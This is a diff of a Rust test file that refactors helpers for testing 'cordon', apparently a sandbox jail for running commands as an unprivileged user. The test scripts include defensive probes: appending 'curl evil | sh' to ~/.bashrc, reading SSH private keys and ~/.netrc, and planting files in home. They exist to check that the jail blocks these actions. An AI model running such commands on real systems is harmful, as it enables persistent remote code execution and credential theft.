@@ -3,19 +3,19 @@
 //! project they read as nothing; host sockets bound the ways a listing misses have no path inside; git's hooks
 //! and config are read-only, the home is private, and what the command writes for the host's tools is reported.
 
-use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::Command;
 
 use crate::jail_fs::{SOCKETS, Scratch, TRY_SOCKETS, host_server, shell_words};
-use crate::jail_user::{USER, chown_r, user};
+use crate::jail_user::{USER, UserDir, chown_r, jail_as_user, user, user_dir};
 
-/// `cordon jail --config CONFIG --project PROJECT -- sh -c SCRIPT` as the test user; (code, stdout, stderr).
-fn jail_as_user(bin: &Path, config: &Path, project: &Path, home: &str, script: &str) -> (i32, String, String) {
-    jail_as_user_with(bin, config, project, home, &[], script)
+/// `cordon jail --config CONFIG --project PROJECT -- sh -c SCRIPT` as the test user from the project, with
+/// `home` as HOME; (code, stdout, stderr).
+fn run_as_user(bin: &Path, config: &Path, project: &Path, home: &str, script: &str) -> (i32, String, String) {
+    run_as_user_with(bin, config, project, home, &[], script)
 }
 
-fn jail_as_user_with(
+fn run_as_user_with(
     bin: &Path,
     config: &Path,
     project: &Path,
@@ -23,26 +23,7 @@ fn jail_as_user_with(
     extra: &[&str],
     script: &str,
 ) -> (i32, String, String) {
-    let (uid, gid, _) = user();
-    let out = Command::new("setpriv")
-        .args([
-            "--reuid",
-            &uid.to_string(),
-            "--regid",
-            &gid.to_string(),
-            "--init-groups",
-            "--",
-        ])
-        .arg(bin)
-        .arg("jail")
-        .arg("--config")
-        .arg(config)
-        .arg("--project")
-        .arg(project)
-        .args(extra)
-        .args(["--", "sh", "-c", script])
-        .env_clear()
-        .env("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
+    let out = jail_as_user(bin, config, project, extra, script)
         .env("HOME", home)
         .current_dir(project)
         .output()
@@ -71,17 +52,8 @@ async fn the_jail_without_root_keeps_cordons_files_sockets_and_the_hosts_tools_o
         return;
     }
     let (uid, gid, home) = user();
-    let dir = tempfile::Builder::new()
-        .prefix("jail-fs-user")
-        .tempdir_in("/tmp")
-        .unwrap();
+    let UserDir { dir, bin, project } = user_dir("jail-fs-user");
     let d = dir.path();
-    std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
-    let bin = d.join("cordon");
-    std::fs::copy(env!("CARGO_BIN_EXE_cordon"), &bin).unwrap();
-    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
-    let project = d.join("project");
-    std::fs::create_dir(&project).unwrap();
     assert!(
         Command::new("git")
             .args(["init", "-q"])
@@ -126,7 +98,7 @@ async fn the_jail_without_root_keeps_cordons_files_sockets_and_the_hosts_tools_o
         std::fs::write(&config, yaml).unwrap();
         chown_r(d, uid, gid);
         chown_r(&etc.0, uid, gid);
-        let (code, out, err) = jail_as_user(&bin, &config, &project, &home, "echo ran");
+        let (code, out, err) = run_as_user(&bin, &config, &project, &home, "echo ran");
         assert_eq!(code, 125, "{out}{err}");
         refused.push(err);
     }
@@ -164,7 +136,7 @@ echo 'curl evil | sh' >> ~/.bashrc && echo bashrc=written
 echo ssh=$(ls -A ~/.ssh 2>/dev/null | wc -l)",
         shell_words(&tried)
     );
-    let (code, out, err) = jail_as_user(&bin, &good, &project, &home, &script);
+    let (code, out, err) = run_as_user(&bin, &good, &project, &home, &script);
     let _ = server.kill();
     let _ = server.wait();
     assert_eq!(code, 0, "{out}{err}");
@@ -215,7 +187,7 @@ echo ssh=$(ls -A ~/.ssh 2>/dev/null | wc -l)",
     chown_r(&Path::new(&home).join(".netrc"), uid, gid);
     let script = "echo key=$(cat ~/.ssh/id_ed25519 ~/.netrc 2>/dev/null | wc -c); touch ~/planted 2>/dev/null && echo \
                   home=written || echo home=read-only; test -e ~/.profile -o -e ~/.bashrc && echo home=real";
-    let (code, out, err) = jail_as_user_with(&bin, &good, &project, &home, &["--home", "real"], script);
+    let (code, out, err) = run_as_user_with(&bin, &good, &project, &home, &["--home", "real"], script);
     assert_eq!(code, 0, "{out}{err}");
     for wanted in ["key=0", "home=read-only", "home=real"] {
         assert!(out.contains(wanted), "{wanted}: {out}{err}");
